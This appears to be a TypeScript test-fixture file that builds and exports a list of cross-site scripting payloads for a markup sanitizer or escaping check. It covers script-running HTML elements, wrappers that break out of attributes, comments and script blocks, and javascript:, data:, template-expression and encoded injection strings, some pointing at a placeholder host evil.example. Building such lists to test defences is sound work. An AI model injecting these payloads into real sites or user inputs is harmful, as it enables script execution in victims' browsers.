/** What a script of a payload does: a dialog, and a mark on the window for dialogs that nobody sees. */
const run = "window.__ran=1,alert(1)";
const encoded = "window.__ran=1,alert&#40;1&#41;";

/** Elements that run a script by themselves once they are parsed as markup. */
const elements = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<body onload="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<style onload="${run}"></style>`,
  `<link rel=stylesheet href=x onerror="${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:/x/">`,
  `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<a href="javascript:${run}" autofocus>x</a>`,
  `<img src=x onerror="${encoded}">`,
  `<template><script>${run}</script></template>`,
] as const;

/** Where the text of a payload would have to be taken for markup: inside text, an attribute, a title, a comment, a script, a style. */
const surroundings: readonly ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `</title></textarea>${element}`,
  (element) => `-->${element}<!--`,
  (element) => `</script></style>${element}`,
  (element) => element.toUpperCase().replaceAll(/ALERT|WINDOW\.__RAN/g, (word) => word.toLowerCase()),
];

/** Text that becomes a script in an address or a template. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `\tjavascript:${run}`,
  `java\nscript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `https://evil.example/"onmouseover="${run}`,
  `https://evil.example/' onfocus='${run}' autofocus='`,
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}`,
  "` onmouseover=" + run + " `",
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `]]>${elements[0]}`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `expression(${run})`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];

export const markupPayloads: readonly string[] = [
  ...surroundings.flatMap((around) => elements.map((element) => around(element))),
  ...addresses,
];
